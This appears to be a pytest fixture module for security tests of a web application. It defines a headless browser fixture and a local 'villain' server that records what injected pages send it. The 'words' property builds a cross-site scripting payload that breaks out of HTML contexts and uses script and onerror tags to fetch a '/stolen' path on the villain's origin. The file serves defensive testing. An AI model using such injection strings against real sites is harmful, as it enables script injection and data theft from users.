"""Victims and attackers."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI, Request, Response

from tests.api.conftest import System, front, host, system
from tests.support.browser import Browser, browser_program
from tests.support.listening import serving

__all__ = ["System", "front", "host", "system"]


@pytest.fixture
def browser(tmp_path: Path) -> Browser:
    """A browser without a window; tests with it are marked ``browser``."""
    return Browser(browser_program(), tmp_path)


@dataclass(slots=True)
class Villain:
    """Somebody with a web server, and what reaches it."""

    origin: str = ""
    asked: list[str] = field(default_factory=list[str])
    """The paths that were asked for."""

    told: dict[str, Any] = field(default_factory=dict[str, Any])
    """What a page has found out."""

    pages: dict[str, Response] = field(default_factory=dict[str, Response])
    has_heard: asyncio.Event = field(default_factory=asyncio.Event)

    @property
    def script(self) -> str:
        """A script that tells the villain that it runs."""
        return f"fetch('{self.origin}/stolen',{{mode:'no-cors'}})"

    @property
    def words(self) -> str:
        """Words that are a script wherever they are not only words."""
        run = self.script
        return f'\'"></title></text>--><script>{run}</script><img src=x onerror="{run}">'

    @property
    def has_stolen(self) -> bool:
        return "/stolen" in self.asked


@asynccontextmanager
async def a_villain() -> AsyncIterator[Villain]:
    villain = Villain()
    app = FastAPI(openapi_url=None)

    @app.post("/told")
    async def told(request: Request) -> None:
        villain.told |= await request.json()
        villain.has_heard.set()

    @app.get("/{path:path}")
    async def page(request: Request) -> Response:
        villain.asked.append(request.url.path)
        if request.url.path == "/until-told":  # keeps the page loading, and so the browser there
            await asyncio.wait_for(villain.has_heard.wait(), 60)
        return villain.pages.get(request.url.path, Response(status_code=404))

    async with AsyncExitStack() as stack:
        place = await stack.enter_async_context(serving(app))
        villain.origin = f"http://localhost:{place.rpartition(':')[2]}"
        yield villain


@pytest.fixture
async def villain() -> AsyncIterator[Villain]:
    async with a_villain() as villain:
        yield villain
